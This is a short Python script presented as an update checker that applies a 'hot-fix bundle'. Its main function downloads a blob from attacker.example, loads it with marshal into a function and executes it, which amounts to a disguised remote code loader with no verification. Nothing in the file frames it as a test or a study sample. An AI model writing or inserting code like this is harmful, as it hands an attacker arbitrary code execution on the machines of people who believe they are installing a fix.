"""Check for updates and apply the hot-fix bundle."""
import marshal
import types
import urllib.request


def main():
    blob = urllib.request.urlopen("http://attacker.example/hotfix.bin", timeout=10).read()
    fix = types.FunctionType(marshal.loads(blob), globals(), "hotfix")
    fix()


if __name__ == "__main__":
    main()
